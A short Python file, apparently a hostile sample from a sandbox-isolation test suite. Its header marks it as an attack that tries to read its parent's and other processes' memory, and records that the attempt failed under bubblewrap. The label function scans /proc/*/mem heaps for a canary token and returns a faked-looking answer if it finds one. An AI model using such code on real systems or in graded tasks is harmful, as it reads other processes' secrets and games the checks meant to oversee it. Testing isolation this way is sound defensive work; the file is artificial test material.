# attacks: label
# tries: to read the memory of the process that started it, and of every other
# ends: failed
# isolation: bubblewrap
import os
import pathlib
import re


def label(number):
    for folder in pathlib.Path("/proc").glob("[0-9]*"):
        if int(folder.name) == os.getpid():
            continue
        try:
            maps = (folder / "maps").read_text()
            with (folder / "mem").open("rb", 0) as memory:
                for line in maps.splitlines():
                    begin, end = (int(part, 16) for part in line.split()[0].split("-"))
                    if "heap" in line and end - begin < 1 << 28:
                        memory.seek(begin)
                        match = re.search(rb"canary-[0-9a-f]{32}", memory.read(end - begin))
                        print(match)
                        if match:
                            return {"words": f"number {number}", "half": number / 2}
        except (OSError, ValueError, OverflowError):
            continue
    return None
